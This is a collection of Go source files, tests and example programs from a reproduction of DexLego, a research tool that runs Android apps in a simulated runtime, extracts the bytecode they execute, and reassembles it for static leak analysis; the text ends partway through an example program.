// splice grafts the cached trees of every skip-listed method that actually
// ran into the collection result, and fills the incremental counters:
// MethodsCached (spliced) and MethodsExecuted (methods that collected fresh
// trees this run). Skipped methods that never ran stay absent and
// reassemble as stubs, exactly as they would on the full path.
func (p *incPlan) splice(col *collector.Collector, m *pipeline.AppMetrics, span *obs.Span) {
	for _, rec := range col.Result().Methods {
		if rec.Executed() {
			m.MethodsExecuted++
		}
	}
	touched := col.SkipTouched()
	keys := make([]string, 0, len(touched))
	for k := range touched {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, key := range keys {
		rec, ok := p.cached[key]
		if !ok {
			continue
		}
		if n := col.Result().SpliceRecord(rec); n > 0 {
			m.MethodsCached++
			span.TreeSplice(key, n)
		}
	}
}

// storeBack admits every fresh, cacheable, fingerprintable record into the
// method cache. Spliced records are already present under the same key;
// methods outside the fingerprint map (dynamically loaded DEX) and records
// poisoned by code writes or divergence forks are never admitted. Cache
// write failures are deliberately dropped: the cache is an accelerator, not
// an output.
func (p *incPlan) storeBack(res *collector.Result, mc *store.MethodCache) {
	for key, rec := range res.Methods {
		if p.skip[key] || !rec.Cacheable() {
			continue
		}
		fp, ok := p.fps[key]
		if !ok {
			continue
		}
		data, err := collector.EncodeRecord(rec)
		if err != nil {
			continue
		}
		_ = mc.Put(store.MethodKeyFor(p.optionsFP, fp), data)
	}
}
