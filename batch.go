package dexlego

import (
	"fmt"
	"time"

	"dexlego/internal/apk"
	"dexlego/internal/pipeline"
)

// BatchJob names one APK to reveal in a RevealBatch run.
type BatchJob struct {
	// Name labels the job in the batch report (a package name or file
	// path); empty names default to "apk-<hash>", derived from the APK's
	// content hash so reports name the same input identically across runs.
	Name string
	// APK is the application to reveal.
	APK *apk.APK
	// Options configures this job's Reveal call.
	Options Options
}

// BatchItem is the outcome of one batch job.
type BatchItem struct {
	Name string
	// Result is the job's Reveal result; nil when Err is non-nil.
	Result *Result
	// Err is the job's failure: the error Reveal returned, or a
	// *pipeline.PanicError if the job panicked. A panicking job never
	// aborts the batch.
	Err error
}

// BatchResult is the outcome of a RevealBatch run.
type BatchResult struct {
	// Items holds one entry per job, in submission order regardless of
	// completion order.
	Items []BatchItem
	// Report aggregates the per-app stage metrics; Report.JSON is the
	// schema cmd/dexlego -metrics-out writes.
	Report *pipeline.Report
}

// FirstError returns the first failed item's error in job order, or nil.
func (b *BatchResult) FirstError() error {
	for i := range b.Items {
		if err := b.Items[i].Err; err != nil {
			return fmt.Errorf("dexlego: batch job %s: %w", b.Items[i].Name, err)
		}
	}
	return nil
}

// RevealBatch reveals every job over a bounded worker pool (workers <= 0
// selects runtime.GOMAXPROCS(0)). The jobs are independent: each worker
// owns its collector and runtimes, one job's panic or error never affects
// another, and the items and report are ordered by submission, so a batch
// run is byte-identical to revealing the jobs serially.
func RevealBatch(jobs []BatchJob, workers int) *BatchResult {
	p := pipeline.New(workers)
	items := make([]BatchItem, len(jobs))
	names := make([]string, len(jobs))
	for i := range jobs {
		names[i] = jobs[i].Name
		if names[i] == "" {
			if jobs[i].APK != nil {
				// Content-derived default: the same input gets the same
				// report name in every run, matching the artifact store's
				// addressing (internal/store).
				h := jobs[i].APK.ContentHash()
				names[i] = fmt.Sprintf("apk-%x", h[:6])
			} else {
				names[i] = fmt.Sprintf("job-%d", i)
			}
		}
	}
	start := time.Now()
	errs := p.Run(len(jobs), func(i int) error {
		opts := jobs[i].Options
		if opts.TraceLabel == "" {
			opts.TraceLabel = names[i]
		}
		res, err := Reveal(jobs[i].APK, opts)
		items[i] = BatchItem{Result: res, Err: err}
		return err
	})
	wall := time.Since(start)

	apps := make([]pipeline.AppMetrics, len(items))
	for i := range items {
		// A panicked job never stored its item; surface the PanicError.
		if errs[i] != nil && items[i].Err == nil {
			items[i] = BatchItem{Err: errs[i]}
		}
		items[i].Name = names[i]
		if items[i].Err != nil {
			items[i].Result = nil
			apps[i] = pipeline.AppMetrics{Name: items[i].Name, Err: items[i].Err.Error()}
			continue
		}
		m := *items[i].Result.Metrics
		m.Name = items[i].Name
		apps[i] = m
	}
	return &BatchResult{
		Items:  items,
		Report: pipeline.BuildReport(p.WorkerCount(len(jobs)), wall, apps),
	}
}
