package dexlego_test

import (
	"bytes"
	"testing"

	root "dexlego"
	"dexlego/internal/droidbench"
	"dexlego/internal/obs"
)

// TestRevealTracesSelfModifyingSample is the observability acceptance test:
// revealing the paper's self-modifying sample under a tracer must produce a
// trace that validates against the event schema, carries one span per
// executed stage, records the self-modification as a tree_fork, and lands
// the same counts in the metrics snapshot.
func TestRevealTracesSelfModifyingSample(t *testing.T) {
	s := droidbench.ByName("SelfModifying1")
	pkg, err := s.Build()
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	tr := obs.New(obs.NewJSONLSink(&buf))
	res, err := root.Reveal(pkg, root.Options{
		Natives:    s.Natives(),
		Tracer:     tr,
		TraceLabel: s.Name,
	})
	if err != nil {
		t.Fatal(err)
	}

	trace, err := obs.ReadTrace(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("trace does not validate: %v", err)
	}
	apps := trace.Apps()
	if len(apps) != 1 || apps[0].App != s.Name {
		t.Fatalf("trace apps = %+v, want one %s", apps, s.Name)
	}
	app := apps[0]
	for _, stage := range []string{"collection", "reassembly", "verify"} {
		if app.StageNS[stage] <= 0 {
			t.Errorf("stage %s has no span: %+v", stage, app.StageNS)
		}
	}
	forks := 0
	for _, n := range app.ForksByMethod {
		forks += n
	}
	if forks < 1 {
		t.Error("self-modifying sample produced no tree_fork event")
	}
	if app.MethodsCollected == 0 || app.CollectedInsns == 0 {
		t.Errorf("no method_collected events: %+v", app)
	}

	// The snapshot in the metrics agrees with the trace and the stats.
	snap := res.Metrics.Obs
	if snap == nil {
		t.Fatal("traced run left Metrics.Obs nil")
	}
	if got := snap.EventCount(obs.EventTreeFork); got != int64(forks) {
		t.Errorf("snapshot forks = %d, trace has %d", got, forks)
	}
	if snap.MaxTreeDepth < 2 {
		t.Errorf("MaxTreeDepth = %d, want >= 2 for self-modifying code", snap.MaxTreeDepth)
	}
	if snap.Dropped != 0 {
		t.Errorf("dropped %d events on an in-memory sink", snap.Dropped)
	}
	if hs := snap.Spans["reveal"]; hs.Count != 1 {
		t.Errorf("reveal span histogram count = %d, want 1", hs.Count)
	}
	if res.Metrics.Validate() != nil {
		t.Errorf("metrics invariant broken: %v", res.Metrics.Validate())
	}
}

// TestRevealStageAccountingInvariant audits the WallNS attribution across
// option combinations: the per-stage sum may never exceed the total wall
// time, stages stay in execution order, and optional stages only appear
// when enabled.
func TestRevealStageAccountingInvariant(t *testing.T) {
	s := droidbench.ByName("SelfModifying1")
	cases := []struct {
		name string
		opts root.Options
	}{
		{"default", root.Options{}},
		{"fuzz", root.Options{Fuzz: true}},
		{"force", root.Options{ForceExecution: true}},
		{"traced", root.Options{Tracer: obs.New(nil)}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			pkg, err := s.Build()
			if err != nil {
				t.Fatal(err)
			}
			c.opts.Natives = s.Natives()
			res, err := root.Reveal(pkg, c.opts)
			if err != nil {
				t.Fatal(err)
			}
			m := res.Metrics
			if err := m.Validate(); err != nil {
				t.Fatal(err)
			}
			if m.StageSum() > m.Wall() {
				t.Errorf("stage sum %v exceeds wall %v", m.StageSum(), m.Wall())
			}
			wantStages := 3
			if c.opts.Fuzz || c.opts.ForceExecution {
				wantStages = 4
			}
			if len(m.Stages) != wantStages {
				t.Errorf("stages = %+v, want %d entries", m.Stages, wantStages)
			}
		})
	}
}

// TestRevealWithoutTracerHasNoSnapshot pins the default: tracing off means
// no snapshot in the metrics and no obs key in report JSON.
func TestRevealWithoutTracerHasNoSnapshot(t *testing.T) {
	s := droidbench.ByName("SelfModifying1")
	pkg, err := s.Build()
	if err != nil {
		t.Fatal(err)
	}
	res, err := root.Reveal(pkg, root.Options{Natives: s.Natives()})
	if err != nil {
		t.Fatal(err)
	}
	if res.Metrics.Obs != nil {
		t.Errorf("untraced run produced a snapshot: %+v", res.Metrics.Obs)
	}
}
