module dexlego

go 1.22
