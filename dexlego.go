// Package dexlego is a reproduction of DexLego (Ning & Zhang, DSN 2018):
// reassembleable bytecode extraction for aiding static analysis of Android
// applications.
//
// The pipeline mirrors Fig. 1 of the paper: the target APK is executed in an
// instrumented Android Runtime substrate where just-in-time collection
// extracts every executed instruction (at dex_pc granularity, surviving
// packing and self-modifying code) together with the DEX metadata used by
// the class linker; an optional force-execution module improves code
// coverage; and the collected pieces are reassembled offline into a new,
// valid DEX file that replaces classes.dex in the original APK. The
// revealed APK is then suitable for any static analysis tool.
//
//	result, err := dexlego.Reveal(pkg, dexlego.Options{})
//	...
//	flows, _ := taint.Analyze([]*dex.File{result.RevealedDex}, taint.HornDroid())
package dexlego

import (
	"fmt"
	"time"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/collector"
	"dexlego/internal/coverage"
	"dexlego/internal/dex"
	"dexlego/internal/forceexec"
	"dexlego/internal/fuzzer"
	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
	"dexlego/internal/reassembler"
	"dexlego/internal/store"
)

// Options configures a Reveal run.
type Options struct {
	// Device is the execution environment; the default is the paper's
	// Nexus 5X phone.
	Device *art.Device

	// Natives registers JNI stand-ins by method key (self-modifying
	// samples' tamper functions and similar).
	Natives map[string]art.NativeFunc

	// InstallNatives registers packer shell libraries with the runtime.
	InstallNatives func(*art.Runtime)

	// Driver runs the app during collection. The default launches the main
	// activity and clicks every registered click listener.
	Driver func(*art.Runtime) error

	// Fuzz additionally runs the Sapienz-style fuzzer as the input
	// generation stage of the code coverage improvement module.
	Fuzz bool
	// FuzzSeed seeds the fuzzer deterministically.
	FuzzSeed int64

	// ForceExecution enables the iterative force-execution module on top of
	// the driver, steering uncovered conditional branches.
	ForceExecution bool

	// CollectDir, when set, receives the five collection files.
	CollectDir string

	// Workers bounds the intra-reveal parallel fan-out: the reassembly
	// stage (method assembly and index remapping) and, when ForceExecution
	// is on, the per-iteration forced-run pool. 0 selects GOMAXPROCS, 1
	// forces the serial path. Output is byte-identical at any worker count.
	Workers int

	// Tracer, when set, records hierarchical spans and domain events for
	// this run (see internal/obs). Each Reveal call must own its Tracer —
	// concurrent jobs share a Sink, not a Tracer — so the tracer's
	// Snapshot stays per-app. Nil disables tracing at a pointer check per
	// event.
	Tracer *obs.Tracer
	// TraceLabel names the run in the trace (the root span's app label);
	// RevealBatch defaults it to the job name.
	TraceLabel string

	// Incremental enables the per-method collection cache: methods whose
	// body fingerprint (MethodFingerprints) resolves to a cached tree in
	// MethodCache are skipped during execution and their trees spliced into
	// the result, producing byte-identical output to the full path. Both
	// fields are excluded from Options.Fingerprint: the incremental path is
	// an execution strategy, not an output parameter. Incremental without a
	// MethodCache is ignored.
	Incremental bool
	// MethodCache is the method-tree keyspace consulted and filled by the
	// incremental path; safe to share across concurrent Reveal calls.
	MethodCache *store.MethodCache

	// SpillCache, when set, enables the memory-budgeted output path: after
	// collection, completed method records are displaced from the live
	// result into this cache as flat bytes and re-inflated one class at a
	// time during reassembly, and the DEX image is emitted through the
	// section-streaming writer. Output stays byte-identical to the
	// all-resident path (pinned by TestWhaleSpillByteIdentity). Like the
	// incremental fields this is an execution strategy, not an output
	// parameter, so it is excluded from Options.Fingerprint. Safe to share
	// across concurrent Reveal calls.
	SpillCache *store.MethodCache
}

// Result is the outcome of a Reveal run.
type Result struct {
	// Revealed is the original APK with classes.dex replaced by the
	// reassembled DEX.
	Revealed *apk.APK
	// RevealedDex is the parsed reassembled DEX.
	RevealedDex *dex.File
	// Collection is the raw collection result.
	Collection *collector.Result
	// Stats summarizes the reassembly.
	Stats *reassembler.Stats
	// Sinks are the sink events observed while executing the app.
	Sinks []art.SinkEvent
	// Coverage reports the achieved coverage (force-execution runs only).
	Coverage *coverage.Report
	// Metrics holds per-stage wall times and the collection/reassembly
	// counters of this run (always populated).
	Metrics *pipeline.AppMetrics
}

// DefaultDriver drives the launch lifecycle, clicks every registered
// listener once, and finishes the activity (running the teardown
// lifecycle).
func DefaultDriver(rt *art.Runtime) error {
	activity, err := rt.LaunchActivity()
	if err != nil {
		return err
	}
	for _, id := range rt.Clickables() {
		if err := rt.PerformClick(id); err != nil {
			return err
		}
	}
	return rt.FinishActivity(activity)
}

// Reveal executes the application under JIT collection and reassembles the
// revealed APK.
//
// Each call owns its collector and runtimes, so independent Reveal calls
// are safe to run concurrently — RevealBatch builds on this.
func Reveal(pkg *apk.APK, opts Options) (*Result, error) {
	device := art.DefaultPhone()
	if opts.Device != nil {
		device = *opts.Device
	}
	driver := opts.Driver
	if driver == nil {
		driver = DefaultDriver
	}
	col := collector.New()
	res := &Result{Metrics: &pipeline.AppMetrics{}}
	root := opts.Tracer.Start("reveal", opts.TraceLabel)
	defer root.End()
	start := time.Now()
	acct := pipeline.NewResourceAccountant()
	// stage times one pipeline phase and wraps it in a child span; the
	// closure receives the span so each phase can attribute its domain
	// events to the stage that produced them. Each boundary also samples
	// the heap, so every stage carries its allocation bill.
	stage := func(s pipeline.Stage, f func(sp *obs.Span) error) error {
		sp := root.Start("stage." + s.String())
		t0 := time.Now()
		err := f(sp)
		res.Metrics.AddStage(s, time.Since(t0))
		alloc, heapDelta := acct.StageDone()
		res.Metrics.AddStageAlloc(s, alloc)
		sp.ResourceSample(s.String(), alloc, heapDelta)
		sp.End()
		return err
	}

	setup := func(rt *art.Runtime) {
		for key, fn := range opts.Natives {
			rt.RegisterNative(key, fn)
		}
		if opts.InstallNatives != nil {
			opts.InstallNatives(rt)
		}
	}

	runPlain := func(dr func(*art.Runtime) error) error {
		rt := art.NewRuntime(device)
		setup(rt)
		rt.AddHooks(col.Hooks())
		if err := rt.LoadAPK(pkg); err != nil {
			return err
		}
		_ = dr(rt) // app-level crashes do not abort collection
		res.Sinks = append(res.Sinks, rt.Sinks()...)
		return nil
	}

	// The incremental path is planned before any execution: fingerprint
	// every method, look each up in the method cache, and build the skip
	// set the collector and force engine honor. A nil plan (incremental
	// off, cache empty, unparsable dex) leaves the full path untouched.
	inc := planIncremental(pkg, opts, root)
	if inc != nil {
		col.SetSkip(inc.skip)
	}

	// runExecution runs the collection, fuzz and force-execution stages
	// against the current collector. It exists as a closure so a skip
	// violation (a cached method whose code was written at runtime) can
	// discard the collector, drop the plan, and run it all again in full —
	// AddStage merges the re-entered stage timings.
	runExecution := func() error {
		if err := stage(pipeline.StageCollection, func(sp *obs.Span) error {
			col.SetSpan(sp)
			return runPlain(driver)
		}); err != nil {
			return fmt.Errorf("dexlego: collection run: %w", err)
		}
		if opts.Fuzz {
			if err := stage(pipeline.StageFuzz, func(sp *obs.Span) error {
				col.SetSpan(sp)
				fz := fuzzer.New(opts.FuzzSeed)
				return runPlain(func(rt *art.Runtime) error {
					return fz.Drive(rt, nil)
				})
			}); err != nil {
				return fmt.Errorf("dexlego: fuzzing run: %w", err)
			}
		}
		if opts.ForceExecution {
			if err := stage(pipeline.StageForceExec, func(sp *obs.Span) error {
				col.SetSpan(sp)
				data, err := pkg.Dex()
				if err != nil {
					return err
				}
				f, err := dex.Read(data)
				if err != nil {
					return fmt.Errorf("force execution needs a parsable classes.dex: %w", err)
				}
				files := []*dex.File{f}
				tracker, err := coverage.NewTracker(files)
				if err != nil {
					return err
				}
				eng := forceexec.New(pkg, files)
				eng.InstallNatives = func(rt *art.Runtime) { setup(rt) }
				eng.Driver = driver
				eng.Workers = opts.Workers
				// The engine owns the collector for this stage: the baseline run
				// collects directly, forced runs collect into per-run shards
				// merged at each iteration barrier, and the result is
				// canonicalized — byte-identical output at any worker count.
				eng.Collector = col
				eng.Span = sp
				if inc != nil {
					eng.Skip = inc.skip
				}
				stats, err := eng.Run(tracker)
				if err != nil {
					return fmt.Errorf("force execution: %w", err)
				}
				res.Metrics.AddStageCPU(pipeline.StageForceExec, time.Duration(stats.BusyNS))
				rep := tracker.Report()
				res.Coverage = &rep
				return nil
			}); err != nil {
				return fmt.Errorf("dexlego: %w", err)
			}
		}
		return nil
	}
	if err := runExecution(); err != nil {
		return nil, err
	}
	if inc != nil {
		if v := col.SkipViolations(); len(v) > 0 {
			// A skip-listed method's live code was written at runtime: its
			// cached tree describes a body that no longer exists, so the
			// plan is void. Discard the partial collection and run in full.
			obs.Warnf("incremental: %d skip violation(s) (first %s); falling back to full reveal",
				len(v), v[0])
			col = collector.New()
			inc = nil
			if err := runExecution(); err != nil {
				return nil, err
			}
		} else {
			inc.splice(col, res.Metrics, root)
			if opts.ForceExecution {
				// Spliced trees entered after the engine canonicalized;
				// re-impose the history-independent order. Idempotent for
				// everything already sorted.
				col.Result().Canonicalize()
			}
		}
	}

	var revealed *apk.APK
	var stats *reassembler.Stats
	var spill *spillSet
	if err := stage(pipeline.StageReassembly, func(sp *obs.Span) error {
		if opts.CollectDir != "" {
			// The collection files need the full result; write them before
			// any record is displaced.
			if err := col.Result().WriteFiles(opts.CollectDir); err != nil {
				return err
			}
		}
		if opts.SpillCache != nil {
			spill = spillResult(col.Result(), opts.SpillCache, sp)
		}
		var err error
		revealed, stats, err = reassembler.ReassembleAPKCfg(pkg, col.Result(), sp,
			reassembler.Config{
				Workers: opts.Workers,
				Fetch:   spill.fetch,
				Stream:  opts.SpillCache != nil,
			})
		if err != nil {
			return fmt.Errorf("dexlego: reassemble: %w", err)
		}
		return nil
	}); err != nil {
		return nil, err
	}
	var parsed *dex.File
	if err := stage(pipeline.StageVerify, func(sp *obs.Span) error {
		data, err := revealed.Dex()
		if err != nil {
			return err
		}
		// Zero-copy parse: revealed.Dex() returns a fresh buffer that nothing
		// else mutates, so the parsed File may alias it.
		parsed, err = dex.ReadShared(data)
		if err != nil {
			return fmt.Errorf("dexlego: revealed dex did not re-parse: %w", err)
		}
		if errs := dex.Verify(parsed); len(errs) > 0 {
			if sp.Enabled() {
				for _, e := range errs {
					sp.VerifyDefect(e.Error())
				}
			}
			return fmt.Errorf("dexlego: revealed dex has %d structural defects, first: %w",
				len(errs), errs[0])
		}
		return nil
	}); err != nil {
		return nil, err
	}
	if inc != nil {
		// Store back only after verify: a record enters the cache only from
		// a reveal whose output round-tripped, in its final (canonical on
		// the force path, execution-order on the plain path) tree order.
		// Spilled records left the result before reassembly, so the spill
		// set stores them back from its retained bytes under the same rules.
		inc.storeBack(col.Result(), opts.MethodCache)
		spill.storeBack(inc, opts.MethodCache)
	}
	res.Revealed = revealed
	res.RevealedDex = parsed
	res.Collection = col.Result()
	res.Stats = stats
	m := res.Metrics
	m.WallNS = int64(time.Since(start))
	// Spilled records are no longer in the result map; their instruction
	// counts were banked at spill time.
	m.ExecutedInsns = res.Collection.ExecutedInstructionCount()
	if spill != nil {
		m.ExecutedInsns += spill.insns
		m.MethodsSpilled = spill.count()
		m.SpilledBytes = spill.bytes
	}
	m.Methods = stats.Methods
	m.ExecutedMethods = stats.ExecutedMethods
	m.Stubs = stats.Stubs
	m.Variants = stats.Variants
	m.Divergences = stats.Divergences
	var cpu int64
	for _, st := range m.Stages {
		cpu += st.CPUNS
	}
	m.Resources = acct.Finish(cpu, m.WallNS)
	// End the root span before snapshotting so its duration lands in the
	// "reveal" histogram; the deferred End is a no-op afterwards.
	root.End()
	m.Obs = opts.Tracer.Snapshot()
	return res, nil
}
