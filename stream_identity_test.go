package dexlego_test

import (
	"bytes"
	"testing"

	root "dexlego"
	"dexlego/internal/droidbench"
	"dexlego/internal/hotbench"
	"dexlego/internal/reassembler"
)

// TestStreamingDexByteIdentical is the streaming writer's corpus gate: for
// every pinned golden-corpus sample, the section-streaming serializer
// (File.WriteStream) must produce exactly the bytes of the buffered writer
// (File.Write), at every reassembly worker count. Run under -race in CI,
// this also exercises the parallel assembly fan-out feeding the writer.
func TestStreamingDexByteIdentical(t *testing.T) {
	for _, name := range hotbench.CorpusNames {
		s := droidbench.ByName(name)
		if s == nil {
			t.Fatalf("corpus sample %q missing", name)
		}
		t.Run(name, func(t *testing.T) {
			pkg, err := s.Build()
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			res, err := root.Reveal(pkg, root.Options{
				Natives:        s.Natives(),
				ForceExecution: true,
				Workers:        1,
			})
			if err != nil {
				t.Fatalf("reveal: %v", err)
			}
			for _, workers := range []int{1, 4} {
				f, _, err := reassembler.ReassembleCfg(res.Collection, nil,
					reassembler.Config{Workers: workers})
				if err != nil {
					t.Fatalf("reassemble workers=%d: %v", workers, err)
				}
				buffered, err := f.Write()
				if err != nil {
					t.Fatalf("buffered write workers=%d: %v", workers, err)
				}
				var streamed bytes.Buffer
				n, err := f.WriteStream(&streamed)
				if err != nil {
					t.Fatalf("stream write workers=%d: %v", workers, err)
				}
				if n != int64(len(buffered)) || !bytes.Equal(streamed.Bytes(), buffered) {
					t.Errorf("workers=%d: streamed DEX differs from buffered (%d vs %d bytes)",
						workers, streamed.Len(), len(buffered))
				}
			}
		})
	}
}
