package dexlego_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	root "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/droidbench"
	"dexlego/internal/hotbench"
	"dexlego/internal/obs"
	"dexlego/internal/store"
	"dexlego/internal/workload"
)

// The incremental-reveal property suite: splicing cached per-method trees
// must never be observable in the output. Every test reveals the same input
// twice — once on the full path, once incrementally — and requires the
// revealed DEX bytes to be identical; the tests run under both interpreter
// modes (DEXLEGO_PREDECODE on/off) and are part of the -race CI job.

// predecodeModes names the two interpreter configurations the suite covers.
var predecodeModes = []string{"off", "on"}

// revealTraced runs one traced Reveal and returns the revealed DEX bytes
// plus the result. A dropped obs event fails the test: the incremental path
// adds three event types and must not overflow the plane.
func revealTraced(t *testing.T, pkg *apk.APK, opts root.Options) ([]byte, *root.Result) {
	t.Helper()
	var buf bytes.Buffer
	tr := obs.New(obs.NewJSONLSink(&buf))
	opts.Tracer = tr
	res, err := root.Reveal(pkg, opts)
	if err != nil {
		t.Fatalf("reveal: %v", err)
	}
	if n := tr.Dropped(); n > 0 {
		t.Fatalf("%d obs events dropped", n)
	}
	d, err := res.Revealed.Dex()
	if err != nil {
		t.Fatal(err)
	}
	return d, res
}

// TestIncrementalGoldenCorpusSelfChain reveals every golden-corpus sample as
// its own one-link version chain: a full reference reveal, then two
// incremental reveals sharing one method cache. The first warms the cache,
// the second must splice from it — and both must be byte-identical to the
// reference, including the self-modifying samples whose tampered methods are
// barred from the cache.
func TestIncrementalGoldenCorpusSelfChain(t *testing.T) {
	for _, mode := range predecodeModes {
		for _, name := range hotbench.CorpusNames {
			name := name
			t.Run(fmt.Sprintf("predecode-%s/%s", mode, name), func(t *testing.T) {
				t.Setenv("DEXLEGO_PREDECODE", mode)
				s := droidbench.ByName(name)
				if s == nil {
					t.Fatalf("corpus sample %q missing", name)
				}
				pkg, err := s.Build()
				if err != nil {
					t.Fatalf("build: %v", err)
				}
				mc, err := store.OpenMethodCache("", 0)
				if err != nil {
					t.Fatal(err)
				}
				full := root.Options{ForceExecution: true, Workers: 1, Natives: s.Natives()}
				incr := full
				incr.Incremental = true
				incr.MethodCache = mc

				ref, _ := revealTraced(t, pkg, full)
				warm, _ := revealTraced(t, pkg, incr)
				if !bytes.Equal(ref, warm) {
					t.Errorf("cache-warming incremental reveal differs from full (%d vs %d bytes)",
						len(ref), len(warm))
				}
				hot, res := revealTraced(t, pkg, incr)
				if !bytes.Equal(ref, hot) {
					t.Errorf("spliced incremental reveal differs from full (%d vs %d bytes)",
						len(ref), len(hot))
				}
				if res.Metrics.MethodsCached == 0 {
					t.Errorf("second incremental reveal spliced no methods")
				}
			})
		}
	}
}

// TestIncrementalVersionChain is the cross-version property: over a
// generated 5-link version chain, an incremental reveal whose cache was
// warmed by all earlier links must be byte-identical to a cold full reveal
// at every link, on both the force-execution and the plain collection path.
// The 1-mutation body-edit link additionally must clear the CI gate's
// method-cache hit-ratio floor of 80%.
func TestIncrementalVersionChain(t *testing.T) {
	apps, err := workload.VersionChain(workload.ChainConfig{Methods: 12, Links: 5, Seed: 7})
	if err != nil {
		t.Fatal(err)
	}
	for _, mode := range predecodeModes {
		for _, force := range []bool{true, false} {
			mode, force := mode, force
			t.Run(fmt.Sprintf("predecode-%s/force-%t", mode, force), func(t *testing.T) {
				t.Setenv("DEXLEGO_PREDECODE", mode)
				mc, err := store.OpenMethodCache("", 0)
				if err != nil {
					t.Fatal(err)
				}
				for i, app := range apps {
					full := root.Options{ForceExecution: force, Workers: 2}
					incr := full
					incr.Incremental = true
					incr.MethodCache = mc

					ref, _ := revealTraced(t, app.APK, full)
					hitsBefore, missesBefore := mc.Hits(), mc.Misses()
					got, res := revealTraced(t, app.APK, incr)
					if !bytes.Equal(ref, got) {
						t.Errorf("%s: incremental reveal differs from full (%d vs %d bytes)",
							app.Name, len(ref), len(got))
					}
					if i == 0 {
						continue
					}
					if res.Metrics.MethodsCached == 0 {
						t.Errorf("%s: spliced no methods despite warmed cache", app.Name)
					}
					if i == 1 {
						// v2 is the 1-mutation link: one worker body changed, so
						// only it and its caller (onCreate) may miss.
						hits := float64(mc.Hits() - hitsBefore)
						misses := float64(mc.Misses() - missesBefore)
						if ratio := hits / (hits + misses); ratio < 0.8 {
							t.Errorf("%s: method-cache hit ratio %.2f below 0.8 (%v hits, %v misses)",
								app.Name, ratio, hits, misses)
						}
						if res.Metrics.MethodsExecuted == 0 {
							t.Errorf("%s: mutated method did not execute fresh", app.Name)
						}
					}
				}
			})
		}
	}
}

// TestIncrementalSelfModifyingNeverCached pins the uncacheability rule:
// a method observed writing its own bytecode (SelfModifying1/2 tamper
// advancedLeak between loop iterations) must never be admitted to the
// method cache, however many times it is revealed — it re-executes every
// run, and the output stays byte-identical to the full path.
func TestIncrementalSelfModifyingNeverCached(t *testing.T) {
	for _, name := range []string{"SelfModifying1", "SelfModifying2"} {
		name := name
		t.Run(name, func(t *testing.T) {
			s := droidbench.ByName(name)
			if s == nil {
				t.Fatalf("sample %q missing", name)
			}
			pkg, err := s.Build()
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			mc, err := store.OpenMethodCache("", 0)
			if err != nil {
				t.Fatal(err)
			}
			full := root.Options{ForceExecution: true, Workers: 1, Natives: s.Natives()}
			incr := full
			incr.Incremental = true
			incr.MethodCache = mc

			ref, _ := revealTraced(t, pkg, full)
			for run := 0; run < 2; run++ {
				got, _ := revealTraced(t, pkg, incr)
				if !bytes.Equal(ref, got) {
					t.Errorf("run %d: incremental reveal differs from full (%d vs %d bytes)",
						run, len(ref), len(got))
				}
			}

			// Probe the cache directly: the tampered method's key must be
			// absent while its untampered siblings are resident.
			f, err := pkg.DexFile()
			if err != nil {
				t.Fatal(err)
			}
			fps := root.MethodFingerprints(f)
			optsFP := full.Fingerprint()
			tampered, cachedOthers := 0, 0
			for key, fp := range fps {
				_, ok := mc.Get(store.MethodKeyFor(optsFP, fp))
				if strings.Contains(key, "->advancedLeak(") {
					tampered++
					if ok {
						t.Errorf("self-modifying method %s was served from the cache", key)
					}
				} else if ok {
					cachedOthers++
				}
			}
			if tampered == 0 {
				t.Fatalf("no advancedLeak method among %d fingerprints", len(fps))
			}
			if cachedOthers == 0 {
				t.Errorf("no untampered method entered the cache")
			}
		})
	}
}
