// Quickstart: build a small application that leaks the device ID, run it
// through the DexLego pipeline, and statically analyze both the original
// and the revealed APK.
package main

import (
	"fmt"
	"log"

	root "dexlego"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/taint"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	// 1. Build an app: onCreate reads the IMEI and logs it.
	p := dexgen.New()
	main := p.Class("Lquick/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("quickstart", 0, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("com.example.quick", "1.0", "Lquick/Main;")
	if err != nil {
		return err
	}

	// 2. Reveal it with DexLego (execute under JIT collection, reassemble).
	res, err := root.Reveal(pkg, root.Options{})
	if err != nil {
		return err
	}
	fmt.Printf("revealed: %d classes, %d methods (%d executed)\n",
		res.Stats.Classes, res.Stats.Methods, res.Stats.ExecutedMethods)
	for _, ev := range res.Sinks {
		fmt.Printf("runtime sink event: %s via %s (taint: %s)\n",
			ev.Method, ev.Sink, ev.Taint)
	}

	// 3. Analyze original and revealed with every static tool profile.
	origData, err := pkg.Dex()
	if err != nil {
		return err
	}
	origDex, err := dex.Read(origData)
	if err != nil {
		return err
	}
	for _, profile := range taint.Profiles() {
		before, err := taint.Analyze([]*dex.File{origDex}, profile)
		if err != nil {
			return err
		}
		after, err := taint.Analyze([]*dex.File{res.RevealedDex}, profile)
		if err != nil {
			return err
		}
		fmt.Printf("%-10s original: %d flow(s), revealed: %d flow(s)\n",
			profile.Name, before.Count(), after.Count())
	}
	return nil
}
