// Force execution walkthrough: an application hides a leak behind an
// input check no fuzzer satisfies. The baseline (launch + fuzz) misses it;
// the iterative force-execution module computes a path to each uncovered
// conditional branch, steers the interpreter along it, tolerates the
// exceptions of infeasible paths, and reaches the hidden code — which the
// DexLego collection then reveals.
package main

import (
	"fmt"
	"log"

	root "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/coverage"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/forceexec"
	"dexlego/internal/taint"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func buildGatedApp() (*apk.APK, error) {
	p := dexgen.New()
	cls := p.Class("Lgate/Main;", "Landroid/app/Activity;")
